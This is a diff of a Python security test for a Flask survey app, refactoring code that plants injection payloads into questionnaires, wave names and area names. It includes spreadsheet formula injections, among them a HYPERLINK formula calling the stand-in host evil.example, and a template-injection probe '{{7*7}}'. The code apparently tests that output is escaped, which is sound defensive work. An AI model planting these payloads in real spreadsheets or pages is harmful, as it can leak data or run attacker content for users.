@@ -20,7 +20,6 @@ from html.parser import HTMLParser
 from typing import Any
 from urllib.parse import urlsplit
 
-import yaml
 from flask import Flask
 from openpyxl import load_workbook
 from sqlalchemy import select
@@ -34,12 +33,10 @@ from feedback_app.models import (
     KpiCommentary,
     LocalArea,
     PaperReturn,
-    QuestionnaireDraft,
-    QuestionnaireVersion,
     Wave,
 )
-from surveys import parse_questionnaire
 from tests.support.data_protection_rows import add_response
+from tests.support.questionnaires import plant_text
 from tests.support.route_values import build_url, demo_route_values, find_forms
 from tests.support.staff import signed_in
 
@@ -54,19 +51,6 @@ PAYLOADS = [
 ]
 PAYLOAD = " ".join(PAYLOADS)
 FORMULAS = [f'=HYPERLINK("http://evil.example/{MARK}")', f"+{MARK}", f"-1+{MARK}", f"@{MARK}"]
-TEXT_KEYS = {"title", "text", "hint", "label", "description", "next_steps", "privacy_notice"}
-
-
-def _poisoned(node: Any) -> Any:
-    """The definition with a payload added to every human-readable text."""
-    if isinstance(node, dict):
-        return {
-            k: (f"{v} {PAYLOAD}" if k in TEXT_KEYS and isinstance(v, str) else _poisoned(v))
-            for k, v in node.items()
-        }
-    if isinstance(node, list):
-        return [_poisoned(v) for v in node]
-    return node
 
 
 def _plant(app: Flask, values: dict[str, Any]) -> None:
@@ -74,26 +58,10 @@ def _plant(app: Flask, values: dict[str, Any]) -> None:
         session = db.session()
         area = session.scalar(select(LocalArea).where(LocalArea.slug == "demo"))
         assert area is not None
-        wave = session.get(Wave, values["wave_id"])
-        assert wave is not None
-        definition = yaml.safe_dump(_poisoned(yaml.safe_load(wave.version.definition)))
-        parse_questionnaire(definition, source="poisoned")  # still a valid questionnaire
-        version = QuestionnaireVersion(
-            area_id=area.id,
-            questionnaire_id=wave.version.questionnaire_id,
-            version=99,
-            title=f"Poisoned {PAYLOAD}",
-            definition=definition,
-            checksum="f" * 64,
+        wave, version, draft = plant_text(
+            session, values, PAYLOAD, name="Poisoned", checksum="f" * 64
         )
-        session.add(version)
-        session.flush()
-        wave.version_id = version.id
-        wave.name = f"Wave {PAYLOAD}"
         area.name = f"Area {MARK}{{{{7*7}}}} <b>{MARK}</b>"
-        draft = session.get(QuestionnaireDraft, values["draft_id"])
-        assert draft is not None
-        draft.definition, draft.title = definition, f"Draft {PAYLOAD}"
         session.flush()
         for each in session.scalars(select(Wave).where(Wave.area_id == area.id)):
             for payload in [PAYLOAD, *FORMULAS]:
